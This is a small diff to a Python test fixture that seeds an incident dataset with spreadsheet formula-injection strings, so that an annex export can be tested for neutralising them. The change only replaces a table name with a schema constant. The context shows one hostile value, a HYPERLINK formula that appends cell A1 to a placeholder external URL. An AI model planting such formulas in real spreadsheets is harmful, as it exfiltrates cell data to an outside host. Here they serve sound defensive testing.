@@ -22,6 +22,7 @@ from analysis.packs.annex import SHEETS, AnnexError, check_inside, needs_quote, 
 from analysis.packs.html import figures
 from analysis.packs.inputs import prepare_pack_inputs
 from analysis.packs.load import load_pack
+from analysis.schemas import INCIDENTS
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
@@ -37,13 +38,13 @@ HOSTILE = (
 def processed(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """test_packs' scenario (analysed) plus six incidents in Kota Palembang whose text opens like a formula."""
     root = build_processed(tmp_path_factory.mktemp("annex") / "demo-16")
-    inc = catalog.read("incidents", root)
+    inc = catalog.read(INCIDENTS.name, root)
     base = inc.filter(pl.col("id_insiden") == "I1").row(0, named=True)
     extra = [
         {**base, "id_insiden": f"H{i}", "deskripsi": text, "instansi": text}
         for i, text in enumerate(HOSTILE)
     ]
-    catalog.write(pl.concat([inc, pl.DataFrame(extra, schema=inc.schema)]), "incidents", root)
+    catalog.write(pl.concat([inc, pl.DataFrame(extra, schema=inc.schema)]), INCIDENTS.name, root)
     run_analyse(root)  # kerawanan and follow-up, as the daily brief makes them
     prepare_pack_inputs(root)
     return root
